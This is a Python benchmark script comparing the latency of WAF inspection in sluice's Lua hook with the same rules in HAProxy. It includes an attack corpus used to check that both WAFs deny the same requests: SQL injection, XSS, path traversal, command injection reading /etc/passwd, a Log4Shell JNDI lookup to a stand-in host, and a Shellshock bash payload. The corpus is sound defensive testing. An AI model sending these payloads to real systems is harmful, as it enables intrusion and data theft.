#!/usr/bin/env python3
"""Inspection cost: the WAF-latency and inspection-percentile experiments,
sluice's Lua hook vs the same rules in HAProxy's Lua, in the same run.

Processes (each started once, on free ports, stopped by PID at the end):
  backend  the static nginx origin (benchlib), 128-byte answers
  sluice   ONE process, workers: 1, two listeners: `allow` runs lua/allow_all.lua,
           `waf` runs lua/waf.lua (343 rules in one Hyperscan database). The
           hook is switched on and off between runs with the admin listener's
           POST /inspect/on|off (the live switch; no restart, so every variant
           runs on the same warm process).
  haproxy  ONE process, nbthread 1, three frontends: no Lua; `lua.sluice_allow_all`;
           `lua.sluice_waf`. Both actions come from bench/haproxy/sluice_hook.lua,
           which runs lua/allow_all.lua and lua/waf.lua unchanged on a port of the
           sluice module (each pattern its own PCRE2 regex, the transforms in Lua).

Targets: sluice-off, sluice-allow_all, sluice-waf, haproxy-off, haproxy-allow_all,
haproxy-waf. "off" = the hook switched off on sluice's waf listener, and the
frontend without Lua on HAProxy. Deltas are taken against each proxy's own off.

Before the load: the port is checked. A corpus of attack and benign requests (and
every User-Agent the load will send) goes through sluice-waf and haproxy-waf, and
their answers and rule tags are compared; a disagreement fails the scenario.

Part 1, siege (the WAF-latency experiment): `siege -c USERS -t DURATION` with a
random UA_BYTES-byte User-Agent (a new one per round, the same for every target
of the round), from a generated rc file (siege's own defaults of Debian's siege
4.0.7 written out: connection close, delay 0; so ~/.siege does not matter).
Figures: siege's summary (JSON), response time recomputed as concurrency/rate
for more digits, and the proxy's CPU time per transaction.

Part 2, fortio (the inspection-percentiles experiment): for each connection count
in CONNS and each rate in QPS, `fortio load -c C -qps Q -t FORTIO_DURATION`,
targets sluice-off, sluice-waf, haproxy-off, haproxy-waf: p50/p90/p99 with and
without inspection, and their difference.

sluice's own figures: the sluice_inspect_seconds histogram of each listener,
scraped from /metrics before and after every sluice run (the difference is that
run's histogram).

Usage: sh bench/inspection.sh (or `make bench-inspection`). Environment knobs:
  QUICK=1            siege 1 s runs; fortio: CONNS=10,250, QPS=1000, 0.3 s runs
  DURATION=N         seconds per siege run (7; QUICK 1)
  USERS=N            siege concurrent users (250)
  DELAY=S            siege delay in seconds, each user sleeps 0..S between requests (0)
  UA_BYTES=N         length of the random User-Agent (500)
  FORTIO_DURATION=S  seconds per fortio run, may be fractional (1.2; QUICK 0.3)
  CONNS=a,b,..       fortio connection counts (10,70,125,250)
  QPS=a,b,..         fortio request rates, for every connection count (250,1000,2500)
  ROUNDS=N           rounds; each runs every target once per case, rotating the order (3)
  PARTS=a,b          subset of siege,fortio
  TARGETS=a,b        siege targets, subset/order of the six above
  FORTIO_TARGETS=a,b fortio targets (sluice-off,sluice-waf,haproxy-off,haproxy-waf)
  PIN=0              do not pin with taskset
  NOISE_PCT=N        others' CPU (% of one CPU) above which a run is marked (25)
  BUILD=dir          where sluice is (build); RESULTS=dir (bench/results)
  BENCH_TS=name      results directory name (default: the UTC start time)
  FORTIO=path        the fortio binary (inspection.sh finds or installs it)

Output: RESULTS/<ts>/inspection.md, inspection.png (siege),
inspection-fortio-c<N>.png (one per connection count), inspection-histogram.png
(sluice's own), inspection/ (configs, siegerc, raw siege/fortio output, logs);
RESULTS/latest/ gets a copy and report.md links it. Exits non-zero when a target
produced no figures or the HAProxy port disagreed with sluice.
"""
import functools
import http.client
import json
import os
import random
import re
import shlex
import string
import subprocess
import sys
import time
import urllib.request

import benchlib
from benchlib import (BUILD, CLK_TCK, HAPROXY_DEFAULTS, PIN, QUICK, RESULTS, ROOT, children_cpu, cmd_out,
                      descendants, fmt, free_port, fsize, git_describe, machine_facts, mmm, pinning, read_tail,
                      refresh_latest, report_configs_and_machine, results_dirs, run_main, start,
                      start_backend_nginx, stop, system_busy_ticks, tree_ticks, wait_children, wait_port, write)

PROG = "bench/inspection.py"
env_int = functools.partial(benchlib.env_int, prog=PROG)
env_float = functools.partial(benchlib.env_float, prog=PROG)
env_list = functools.partial(benchlib.env_list, prog=PROG)

DURATION = env_int("DURATION", 1 if QUICK else 7, 1)
USERS = env_int("USERS", 250, 1)
DELAY = env_float("DELAY", 0.0)
UA_BYTES = env_int("UA_BYTES", 500, 20)
FORTIO_DURATION = env_float("FORTIO_DURATION", 0.3 if QUICK else 1.2, 0.1)
CONNS = env_list("CONNS", "10,250" if QUICK else "10,70,125,250", int)
QPS = env_list("QPS", "1000" if QUICK else "250,1000,2500", int)
ROUNDS = env_int("ROUNDS", 3, 1)
PARTS = env_list("PARTS", "siege,fortio")
ALL_TARGETS = ["sluice-off", "sluice-allow_all", "sluice-waf", "haproxy-off", "haproxy-allow_all", "haproxy-waf"]
TARGETS = env_list("TARGETS", ",".join(ALL_TARGETS))
FORTIO_TARGETS = env_list("FORTIO_TARGETS", "sluice-off,sluice-waf,haproxy-off,haproxy-waf")
NOISE_PCT = env_int("NOISE_PCT", 25)
FORTIO = os.environ.get("FORTIO", "") or os.path.expanduser("~/go/bin/fortio")
POOL = 64                     # backend connections each proxy may keep / open
URL_PATH = "/catalog/item?id=4217&page=2&sort=price"

for t in TARGETS + FORTIO_TARGETS:
    if t not in ALL_TARGETS:
        sys.exit(f"{PROG}: unknown target {t!r} (use {', '.join(ALL_TARGETS)})")
for p in PARTS:
    if p not in ("siege", "fortio"):
        sys.exit(f"{PROG}: unknown part {p!r} (siege, fortio)")
if USERS > 1000:
    sys.exit(f"{PROG}: USERS must be <= 1000")

PROXY_PIN, LOAD_PIN, PIN_TEXT = pinning(PIN)
PROXY_CPUS = {int(x) for x in PROXY_PIN[-1].split(",")} if PROXY_PIN else set()


def pin_tree(pid, cpus):
    """Pin every thread of pid and of its descendants to cpus (what taskset -a -p does)."""
    for q in [pid] + descendants(pid):
        try:
            tids = [int(t) for t in os.listdir(f"/proc/{q}/task")]
        except OSError:
            continue
        for t in tids:
            try:
                os.sched_setaffinity(t, cpus)
            except OSError:
                pass
PIN_TEXT = PIN_TEXT.replace("wrk and the backend", "siege/fortio and the backend")


def log(msg):
    print(f"[inspection] {msg}", flush=True)


# ---------------------------------------------------------------- configs

def conf_sluice(d, ports):
    return f"""# sluice, one worker; the hook is switched on/off live through the admin listener
workers: 1
error_log: {d}/sluice.error.log
user: nobody
access_log: off
inspection: on
admin:
  address: 127.0.0.1:{ports['admin']}
timeouts:
  drain: 0
listeners:
  - name: allow
    address: 127.0.0.1:{ports['allow']}
    backend: app
    inspect:
      script: {os.path.join(ROOT, 'lua/allow_all.lua')}
  - name: waf
    address: 127.0.0.1:{ports['waf']}
    backend: app
    inspect:
      script: {os.path.join(ROOT, 'lua/waf.lua')}
backends:
  - name: app
    idle_max: {POOL}
    servers:
      - name: s1
        address: 127.0.0.1:{ports['backend']}
        max_connections: {POOL}
"""


def conf_haproxy(d, ports):
    hook = os.path.join(ROOT, "bench/haproxy/sluice_hook.lua")
    return f"""# HAProxy, one thread; three frontends: no Lua, allow_all.lua, waf.lua (bench/haproxy/sluice_hook.lua)
global
    nbthread 1
    maxconn 4096
    pidfile {d}/haproxy.pid
    lua-load {hook}
    # waf.lua keeps per-request state in upvalues: an action must not be suspended midway
    tune.lua.forced-yield 100000000

{HAPROXY_DEFAULTS}
frontend off
    bind 127.0.0.1:{ports['off']}
    default_backend be

frontend allow_all
    bind 127.0.0.1:{ports['allow']}
    http-request lua.sluice_allow_all
    default_backend be

frontend waf
    bind 127.0.0.1:{ports['waf']}
    http-request lua.sluice_waf
    http-request deny deny_status 403 if {{ var(txn.sluice_deny) -m found }}
    http-after-response set-header X-Sluice-Tags %[var(txn.sluice_tags)] if {{ var(txn.sluice_tags) -m found }}
    default_backend be

backend be
    server s1 127.0.0.1:{ports['backend']} maxconn {POOL}
"""


SIEGERC_KEYS = [  # Debian siege 4.0.7's defaults, except output (JSON, no per-hit lines) and the HTML parser
    ("verbose", "false"), ("quiet", "false"), ("json_output", "true"), ("show-logfile", "false"),
    ("logging", "false"), ("parser", "false"), ("protocol", "HTTP/1.1"), ("chunked", "true"),
    ("cache", "false"), ("connection", "close"), ("benchmark", "false"), ("internet", "false"),
    ("accept-encoding", "gzip, deflate"), ("url-escaping", "true"), ("timeout", "30"),
    ("failures", "1000000"),
]


def siegerc():
    keys = SIEGERC_KEYS + [("concurrent", str(USERS)), ("delay", f"{DELAY:g}"), ("limit", str(max(USERS, 255)))]
    return ("# generated by bench/inspection.py: siege -R <this file>, so ~/.siege does not matter\n"
            + "".join(f"{k} = {v}\n" for k, v in keys))


# ---------------------------------------------------------------- processes

class Setup:
    """The three long-lived processes and their ports."""

    def __init__(self, d):
        self.d = d
        self.backend, self.bport, self.backend_cmd = start_backend_nginx(d, LOAD_PIN, prog=PROG)
        self.sp = {"allow": free_port(), "waf": free_port(), "admin": free_port(), "backend": self.bport}
        self.hp = {"off": free_port(), "allow": free_port(), "waf": free_port(), "backend": self.bport}
        self.sluice_conf = write(os.path.join(d, "sluice.yaml"), conf_sluice(d, self.sp))
        self.haproxy_conf = write(os.path.join(d, "haproxy.cfg"), conf_haproxy(d, self.hp))
        self.sluice_cmd = PROXY_PIN + [os.path.join(BUILD, "sluice"), "-c", self.sluice_conf]
        self.haproxy_cmd = PROXY_PIN + ["haproxy", "-f", self.haproxy_conf, "-db"]
        self.sluice = self.haproxy = None
        self.switch = None
        self.start_notes = []

    def start(self):
        t0 = time.monotonic()
        self.haproxy = start(self.haproxy_cmd, os.path.join(self.d, "haproxy.out"))
        for port in (self.hp["off"], self.hp["allow"], self.hp["waf"]):
            if not wait_port(port, self.haproxy, deadline=60.0):
                sys.exit(f"{PROG}: haproxy did not start: {read_tail(os.path.join(self.d, 'haproxy.out'), 0)[-800:]}")
        # sluice compiles the WAF's Hyperscan database before it listens (2-3 s of CPU).
        # Its main chunk has 10 s of wall time at load: when the proxy's CPU is shared
        # with a busy process it may run out, and sluice refuses the config. Then it is
        # started again unpinned and pinned once it listens (sched_setaffinity on every
        # thread of its processes), and the report says so.
        for attempt in range(1, 4):
            errlog = os.path.join(self.d, "sluice.error.log")
            pos, opos = fsize(errlog), fsize(os.path.join(self.d, "sluice.out"))
            pin_later = attempt > 1 and PROXY_PIN
            cmd = self.sluice_cmd[len(PROXY_PIN):] if pin_later else self.sluice_cmd
            self.sluice = start(cmd, os.path.join(self.d, "sluice.out"))
            if all(wait_port(port, self.sluice, deadline=120.0)
                   for port in (self.sp["waf"], self.sp["allow"], self.sp["admin"])):
                if pin_later:
                    wait_children(self.sluice)
                    pin_tree(self.sluice.pid, PROXY_CPUS)
                    self.start_notes.append(f"sluice started unpinned (attempt {attempt}), then pinned to CPU "
                                            f"{PROXY_PIN[-1]} once it listened")
                break
            why = (read_tail(errlog, pos) + read_tail(os.path.join(self.d, "sluice.out"), opos)).strip()
            stop(self.sluice)
            self.start_notes.append(f"sluice start attempt {attempt} failed: {why[-300:]}")
            log(self.start_notes[-1])
            if attempt == 3:
                sys.exit(f"{PROG}: sluice did not start: {why[-600:]}")
        wait_children(self.sluice)
        log(f"sluice and haproxy up in {time.monotonic() - t0:.1f} s")

    def proc(self, target):
        return self.sluice if target.startswith("sluice") else self.haproxy

    def port(self, target):
        proxy, variant = target.split("-", 1)
        if proxy == "sluice":
            return self.sp["allow" if variant == "allow_all" else "waf"]
        return self.hp["allow" if variant == "allow_all" else variant]

    def set_switch(self, on):
        """sluice's live switch: POST /inspect/on|off, then check the gauge."""
        if self.switch == on:
            return
        word = "on" if on else "off"
        req = urllib.request.Request(f"http://127.0.0.1:{self.sp['admin']}/inspect/{word}", data=b"", method="POST")
        with urllib.request.urlopen(req, timeout=5) as r:
            r.read()
        end = time.monotonic() + 5
        while time.monotonic() < end:
            m = re.search(r"^sluice_inspect_enabled (\d+)", self.metrics(), re.M)
            if m and int(m.group(1)) == int(on):
                self.switch = on
                return
            time.sleep(0.05)
        sys.exit(f"{PROG}: sluice's inspection switch did not turn {word}")

    def prepare(self, target):
        if target.startswith("sluice"):
            self.set_switch(not target.endswith("-off"))

    def metrics(self):
        with urllib.request.urlopen(f"http://127.0.0.1:{self.sp['admin']}/metrics", timeout=5) as r:
            return r.read().decode()


# ---------------------------------------------------------------- sluice's own histogram

HIST_RE = re.compile(r'^sluice_inspect_seconds_(bucket|sum|count)\{listener="(\w+)"(?:,le="([^"]+)")?\} (\S+)$', re.M)
TAG_RE = re.compile(r'^sluice_inspect_tag_total\{tag="([^"]+)",outcome="(\w+)"\} (\d+)$', re.M)


def hist_of(text):
    """{listener: {"buckets": [(le_us, cumulative)], "sum": s, "count": n}}"""
    out = {}
    for kind, li, le, val in HIST_RE.findall(text):
        h = out.setdefault(li, {"buckets": [], "sum": 0.0, "count": 0})
        if kind == "bucket":
            h["buckets"].append((float("inf") if le == "+Inf" else round(float(le) * 1e6), float(val)))
        elif kind == "sum":
            h["sum"] = float(val)
        else:
            h["count"] = float(val)
    return out


def hist_diff(a, b):
    """Histogram of what happened between two scrapes (b - a)."""
    out = {}
    for li, hb in b.items():
        ha = a.get(li, {"buckets": [], "sum": 0.0, "count": 0})
        prev = dict(ha["buckets"])
        out[li] = {"buckets": [(le, c - prev.get(le, 0)) for le, c in hb["buckets"]],
                   "sum": hb["sum"] - ha["sum"], "count": hb["count"] - ha["count"]}
    return out


def hist_add(acc, h):
    if acc is None:
        return {"buckets": list(h["buckets"]), "sum": h["sum"], "count": h["count"]}
    cur = dict(h["buckets"])
    return {"buckets": [(le, c + cur.get(le, 0)) for le, c in acc["buckets"]],
            "sum": acc["sum"] + h["sum"], "count": acc["count"] + h["count"]}


def hist_stats(h):
    """count, mean µs, p50/p90/p99/p999 µs (bucket upper edges) of a cumulative histogram."""
    n = h["count"] if h else 0
    if not n:
        return None
    r = {"count": n, "mean": h["sum"] * 1e6 / n}
    for q, k in ((0.5, "p50"), (0.9, "p90"), (0.99, "p99"), (0.999, "p999")):
        r[k] = next((le for le, c in h["buckets"] if c >= q * n), None)
    return r


# ---------------------------------------------------------------- the port check

ATTACKS = [  # (label, method, target, extra headers); every one is expected to be denied by waf.lua
    ("SQLi union", "GET", "/item?id=1%27%20union%20select%20username,password%20from%20users--", {}),
    ("SQLi tautology", "GET", "/item?id=1%27%20OR%20%271%27%3D%271", {}),
    ("SQLi double-encoded", "GET", "/item?id=1%2527%2520union%2520select%25201,2--", {}),
    ("SQLi in a cookie", "GET", "/account", {"Cookie": "session=1' union select 1,2--"}),
    ("XSS script", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}),
    ("XSS onerror", "GET", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", {}),
    ("XSS entity-encoded", "GET", "/search?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", {}),
    ("path traversal", "GET", "/download?file=../../../../etc/passwd", {}),
    ("RFI", "GET", "/page?include=http://10.0.0.1/shell.txt", {}),
    ("command injection", "GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", {}),
    ("PHP wrapper", "GET", "/index.php?page=php://filter/convert.base64-encode/resource=index", {}),
    ("Spring4Shell", "GET", "/x?class.module.classLoader.URLs%5B0%5D=0", {}),
    ("Log4Shell in User-Agent", "GET", "/", {"User-Agent": "${jndi:ldap://evil.example/a}"}),
    ("Shellshock", "GET", "/cgi-bin/status", {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}),
    ("scanner sqlmap", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("scanner Nikto", "GET", "/", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"}),
    ("backup file", "GET", "/config.php.bak", {}),
    ("git metadata", "GET", "/.git/config", {}),
    ("header SQLi", "GET", "/", {"X-Forwarded-For": "127.0.0.1' union select 1--"}),
    ("method TRACE", "TRACE", "/", {}),
    ("an overlong Accept-Encoding", "GET", "/", {"Accept-Encoding": "gzip, " * 20 + "br"}),
]
BENIGN = [  # expected to be allowed; "tagged" ones also carry a rule tag (a score under the threshold)
    ("a blank Accept header", "GET", "/", {"Accept": ""}),
    ("the load's request", "GET", URL_PATH, {}),
    ("browser page", "GET", "/", {
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "en-US,en;q=0.5", "Cookie": "session=3f9a1c77e2; theme=dark",
        "Referer": "https://shop.example/catalog?page=1"}),
    ("search with + and %26", "GET", "/search?q=rock+%26+roll&lang=en", {}),
    ("API with dates", "GET", "/api/v1/users/17/orders?from=2024-01-01&to=2024-12-31", {}),
    ("static asset", "GET", "/static/app.min.js?v=3.2.1", {}),
    ("prose with SQL words", "GET", "/blog/how-to-select-a-union-rep?comment=we+select+from+the+best", {}),
]


def http_req(port, method, target, headers, ua):
    h = {"User-Agent": ua, "Accept": "*/*"}
    h.update(headers)
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        c.putrequest(method, target, skip_accept_encoding=True)
        for k, v in h.items():
            c.putheader(k, v)
        c.endheaders()
        r = c.getresponse()
        r.read()
        return r.status, r.getheader("X-Sluice-Tags") or ""
    finally:
        c.close()


def sluice_tags(before, after):
    a = {(t, o): int(n) for t, o, n in TAG_RE.findall(before)}
    out = []
    for t, o, n in TAG_RE.findall(after):
        if int(n) > a.get((t, o), 0):
            out.append(t)
    return out


def check_port(setup, uas):
    """Each corpus request through sluice-waf and haproxy-waf: status and tags.
    Returns (rows, problems)."""
    setup.set_switch(True)
    rows, problems = [], []
    cases = [(lab, m, t, h, "attack") for lab, m, t, h in ATTACKS]
    cases += [(lab, m, t, h, "benign") for lab, m, t, h in BENIGN]
    cases += [(f"the load's request, round {i + 1} User-Agent", "GET", URL_PATH, {}, "benign")
              for i in range(len(uas))]
    for i, (lab, method, target, headers, kind) in enumerate(cases):
        ua = uas[int(lab.split("round ")[1].split()[0]) - 1] if "round " in lab else (uas[0] if uas else "Mozilla/5.0")
        m0 = setup.metrics()
        s_status, _ = http_req(setup.sp["waf"], method, target, headers, ua)
        s_tags = sorted(sluice_tags(m0, setup.metrics()))
        h_status, h_tag_text = http_req(setup.hp["waf"], method, target, headers, ua)
        h_tags = sorted(t for t in h_tag_text.split(",") if t)
        want = 403 if kind == "attack" else 200
        same = s_status == h_status and s_tags == h_tags
        rows.append({"label": lab, "kind": kind, "method": method, "target": target, "headers": headers,
                     "sluice": s_status, "sluice_tags": s_tags, "haproxy": h_status, "haproxy_tags": h_tags,
                     "same": same, "expected": s_status == want and h_status == want})
        if not same:
            problems.append(f"port check: {lab}: sluice {s_status} {s_tags} vs HAProxy {h_status} {h_tags}")
        elif s_status != want:
            problems.append(f"port check: {lab}: both answered {s_status}, expected {want} ({s_tags})")
    return rows, problems


# ---------------------------------------------------------------- load

def make_ua(seed, setup=None):
    """A random UA_BYTES-byte User-Agent: 'Mozilla/5.0 ' + letter/digit words. With
    setup, one that both WAFs let through (retrying other seeds)."""
    for k in range(50):
        rng = random.Random(f"inspection-{seed}-{k}")
        words, n = ["Mozilla/5.0"], len("Mozilla/5.0")
        while n < UA_BYTES:
            w = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(rng.randint(3, 12)))
            words.append(w)
            n += len(w) + 1
        ua = " ".join(words)[:UA_BYTES].rstrip()
        if setup is None:
            return ua
        if all(http_req(setup.port(t), "GET", URL_PATH, {}, ua)[0] == 200 for t in ("sluice-waf", "haproxy-waf")):
            return ua
    sys.exit(f"{PROG}: no random User-Agent passes the WAF")


def snapshot(setup, proxy):
    return {"ticks": tree_ticks(proxy.pid), "backend": tree_ticks(setup.backend.pid), "load": children_cpu(),
            "busy": system_busy_ticks(), "t": time.monotonic(),
            "metrics": setup.metrics() if proxy is setup.sluice else None}


def cpu_figures(setup, proxy, s0, s1, done):
    dt = sum(s1["ticks"][q] - s0["ticks"][q] for q in s1["ticks"] if q in s0["ticks"])
    db = sum(s1["backend"][q] - s0["backend"][q] for q in s1["backend"] if q in s0["backend"])
    wall = s1["t"] - s0["t"]
    load_s = s1["load"] - s0["load"]
    r = {"cpu_us": dt / CLK_TCK * 1e6 / done if done else None,
         "cpu_pct": dt / CLK_TCK / wall * 100,
         "other_pct": ((s1["busy"] - s0["busy"]) - dt - db) / CLK_TCK / wall * 100 - load_s / wall * 100}
    if s0["metrics"] is not None:   # sluice: every listener's histogram of this run (the caller picks one)
        r["hist"] = hist_diff(hist_of(s0["metrics"]), hist_of(s1["metrics"]))
    return r


def siege_cmd(rc, ua, port):
    return LOAD_PIN + ["siege", "-R", rc, "-c", str(USERS), "-t", f"{DURATION}S", "-A", ua,
                       f"http://127.0.0.1:{port}{URL_PATH}"]


def run_siege(setup, target, rnd, ua, rc, d):
    proxy = setup.proc(target)
    setup.prepare(target)
    cmd = siege_cmd(rc, ua, setup.port(target))
    raw = os.path.join(d, "raw", f"siege-r{rnd + 1}-{target}.txt")
    retried = []
    # siege 4.0.7 now and then hangs at the end of a run (no summary, no exit): it is
    # killed after DURATION + 10 s. On a busy load CPU, a short run may also end before
    # siege's 250 threads got going (0 transactions). Either way the run is made again, once.
    for attempt in (1, 2):
        s0 = snapshot(setup, proxy)
        try:
            cp = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                timeout=DURATION + 10)
            out, err, why = cp.stdout, cp.stderr, None
            if not re.search(r'"transactions":\s*[1-9]', out):
                why = "siege completed no transaction" if '"transactions"' in out else "siege printed no summary"
        except subprocess.TimeoutExpired:
            out, err = "", f"(siege hung: killed after {DURATION + 10} s)"
            why = f"siege hung (killed after {DURATION + 10} s)"
        if why is None or attempt == 2:
            break
        write(raw.replace(".txt", "-attempt1.txt"), out + "\n--- stderr\n" + err + "\n")
        retried.append(f"{why}; run again")
        log(f"siege r{rnd + 1} {target}: {why}; run again")
    s1 = snapshot(setup, proxy)
    shown = shlex.join(siege_cmd(rc, "<UA: user-agents.txt, round %d>" % (rnd + 1), setup.port(target)))
    write(raw, shown + "\n" + out + "\n--- stderr\n" + err)
    r = {"part": "siege", "target": target, "round": rnd + 1, "raw": os.path.relpath(raw, d), "problems": retried}
    try:
        j = json.loads(out[out.index("{"):out.rindex("}") + 1])
    except ValueError:
        j = None
        r["problems"].append("no siege summary: " + (err.strip().splitlines() or ["?"])[-1][:200])
    if j:
        r.update({k: j.get(k) for k in ("transactions", "availability", "elapsed_time", "data_transferred",
                                        "response_time", "transaction_rate", "throughput", "concurrency",
                                        "successful_transactions", "failed_transactions",
                                        "longest_transaction", "shortest_transaction")})
        # siege prints seconds with 2 decimals; concurrency / rate is the same mean with more digits
        rate, conc = r.get("transaction_rate") or 0, r.get("concurrency") or 0
        r["rt_ms"] = conc / rate * 1000 if rate else None
        if not r.get("transactions"):
            r["problems"].append("siege completed no transaction")
        if r.get("failed_transactions"):
            r["problems"].append(f"{r['failed_transactions']} failed transactions")
    r.update(cpu_figures(setup, proxy, s0, s1, r.get("transactions") or 0))
    if "hist" in r:
        r["hist"] = r["hist"].get("allow" if target.endswith("allow_all") else "waf")
    if proxy.poll() is not None:
        r["problems"].append(f"{target.split('-')[0]} exited (status {proxy.returncode})")
    r["noisy"] = r["other_pct"] >= NOISE_PCT
    return r


def fortio_cmd(port, c, q, ua, out_json):
    return LOAD_PIN + [FORTIO, "load", "-qps", str(q), "-c", str(c), "-t", f"{FORTIO_DURATION:g}s", "-uniform",
                       "-r", "0.00001", "-p", "50,90,99", "-loglevel", "Warning", "-json", out_json,
                       "-H", f"User-Agent: {ua}", f"http://127.0.0.1:{port}{URL_PATH}"]


def run_fortio(setup, target, rnd, c, q, ua, d):
    proxy = setup.proc(target)
    setup.prepare(target)
    base = os.path.join(d, "raw", f"fortio-r{rnd + 1}-c{c}-q{q}-{target}")
    cmd = fortio_cmd(setup.port(target), c, q, ua, base + ".json")
    s0 = snapshot(setup, proxy)
    try:
        cp = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            timeout=FORTIO_DURATION + 30)
        out = cp.stdout
    except subprocess.TimeoutExpired as e:
        out = (e.stdout or "") + "\n(timed out)"
    s1 = snapshot(setup, proxy)
    write(base + ".txt", shlex.join(cmd).replace(ua, "<UA: user-agents.txt, round %d>" % (rnd + 1)) + "\n" + out)
    r = {"part": "fortio", "target": target, "round": rnd + 1, "c": c, "qps": q,
         "raw": os.path.relpath(base + ".json", d), "problems": []}
    benchlib.fortio_result(base + ".json", r, out)
    r.update(cpu_figures(setup, proxy, s0, s1, r.get("count") or 0))
    if "hist" in r:
        r["hist"] = r["hist"].get("waf")
    if proxy.poll() is not None:
        r["problems"].append(f"{target.split('-')[0]} exited (status {proxy.returncode})")
    r["noisy"] = r["other_pct"] >= NOISE_PCT
    return r


# ---------------------------------------------------------------- summaries

SIEGE_KEYS = ("transactions", "availability", "rt_ms", "transaction_rate", "throughput", "concurrency",
              "longest_transaction", "failed_transactions", "cpu_us")


def siege_summary(runs):
    out = {}
    for t in TARGETS:
        rs = [r for r in runs if r["part"] == "siege" and r["target"] == t and r.get("transactions")]
        if rs:
            out[t] = {"n": len(rs), **{k: mmm([r.get(k) for r in rs]) for k in SIEGE_KEYS}}
    return out


def fortio_summary(runs):
    out = {}
    for r in runs:
        if r["part"] != "fortio" or r.get("p50") is None:
            continue
        out.setdefault((r["target"], r["c"], r["qps"]), []).append(r)
    return {k: {"n": len(v), **{m: mmm([r.get(m) for r in v]) for m in
                                ("p50", "p90", "p99", "actual_qps", "errors", "cpu_us")}}
            for k, v in out.items()}


def hist_totals(runs):
    """sluice's own histograms summed over runs: {label: cumulative histogram}."""
    acc = {}
    for r in runs:
        if not r.get("hist") or r["target"] == "sluice-off":
            continue
        key = f"{r['target'].split('-', 1)[1]} ({r['part']})"
        acc[key] = hist_add(acc.get(key), r["hist"])
    return acc


# ---------------------------------------------------------------- charts

COLORS = {"sluice": "#2b7bba", "haproxy": "#e07b39"}
SHADE = {"off": 0.35, "allow_all": 0.65, "waf": 1.0}


def plt_module():
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    return plt


def chart_siege(path, summ):
    plt = plt_module()
    ts = [t for t in TARGETS if t in summ]
    fig, axes = plt.subplots(1, 3, figsize=(15, 4.4))
    for ax, key, title, nd in ((axes[0], "rt_ms", "Response time, ms (siege; median, bars min–max)", 2),
                               (axes[1], "transaction_rate", "Transaction rate, trans/s", 0),
                               (axes[2], "cpu_us", "Proxy CPU µs per transaction", 1)):
        med = [summ[t][key][0] or 0 for t in ts]
        err = [[(summ[t][key][0] or 0) - (summ[t][key][1] or 0) for t in ts],
               [(summ[t][key][2] or 0) - (summ[t][key][0] or 0) for t in ts]]
        cols = [COLORS[t.split("-")[0]] for t in ts]
        bars = ax.bar(range(len(ts)), med, yerr=err, capsize=4, color=cols)
        for b, t in zip(bars, ts):
            b.set_alpha(SHADE[t.split("-", 1)[1]])
        for b, val in zip(bars, med):
            ax.annotate(f"{val:,.{nd}f}", (b.get_x() + b.get_width() / 2, val), xytext=(0, 3),
                        textcoords="offset points", ha="center", fontsize=7)
        ax.set_xticks(range(len(ts)), [t.replace("-", "\n") for t in ts], fontsize=8)
        ax.set_title(title, fontsize=10)
        ax.grid(axis="y", alpha=0.3)
    fig.suptitle(f"WAF latency, siege -c {USERS} -t {DURATION}S, random {UA_BYTES}-byte User-Agent, delay {DELAY:g}; "
                 f"one proxy thread each; {ROUNDS} rounds", fontsize=10)
    fig.tight_layout()
    fig.savefig(path, dpi=110)
    plt.close(fig)


def chart_fortio(path, fsum, c):
    plt = plt_module()
    fig, axes = plt.subplots(2, 3, figsize=(15, 7.5), sharex=True)
    proxies = [p for p in ("sluice", "haproxy") if any(t.startswith(p) for t in FORTIO_TARGETS)]
    for col, pk in enumerate(("p50", "p90", "p99")):
        ax, dax = axes[0][col], axes[1][col]
        for p in proxies:
            for v, style in (("off", ":"), ("waf", "-")):
                pts = [(q, fsum[(f"{p}-{v}", c, q)][pk][0]) for q in QPS if (f"{p}-{v}", c, q) in fsum]
                if pts:
                    ax.plot([x for x, _ in pts], [y for _, y in pts], style, marker="o", color=COLORS[p],
                            label=f"{p} {'without' if v == 'off' else 'with'} inspection")
            diff = [(q, fsum[(f"{p}-waf", c, q)][pk][0] - fsum[(f"{p}-off", c, q)][pk][0]) for q in QPS
                    if (f"{p}-waf", c, q) in fsum and (f"{p}-off", c, q) in fsum]
            if diff:
                dax.plot([x for x, _ in diff], [y for _, y in diff], "-", marker="s", color=COLORS[p],
                         label=f"{p}: with − without")
                for x, y in diff:
                    dax.annotate(f"{y:+.2f}", (x, y), xytext=(0, 4), textcoords="offset points",
                                 ha="center", fontsize=7, color=COLORS[p])
        ax.set_yscale("log")
        ax.set_title(f"{pk} latency, ms (log scale)", fontsize=10)
        ax.grid(alpha=0.3, which="both")
        dax.set_yscale("symlog", linthresh=0.1)
        dax.margins(y=0.25)
        dax.axhline(0, color="#888", lw=0.8)
        dax.set_title(f"{pk}: difference with − without, ms (symlog)", fontsize=10)
        dax.set_xlabel("requested QPS (fortio -qps)")
        dax.grid(alpha=0.3, which="both")
        if len(QPS) > 1 and min(QPS) > 0 and max(QPS) / min(QPS) >= 8:
            dax.set_xscale("log")
        dax.set_xticks(QPS, [str(q) for q in QPS])
    axes[0][0].legend(fontsize=8)
    axes[1][0].legend(fontsize=8)
    fig.suptitle(f"Inspection latency, fortio -c {c} -t {FORTIO_DURATION:g}s at fixed QPS: waf.lua on vs off "
                 f"(sluice: live switch; HAProxy: frontend with vs without the Lua port); medians of {ROUNDS}",
                 fontsize=10)
    fig.tight_layout()
    fig.savefig(path, dpi=110)
    plt.close(fig)


def chart_hist(path, totals):
    plt = plt_module()
    fig, ax = plt.subplots(figsize=(11, 4.4))
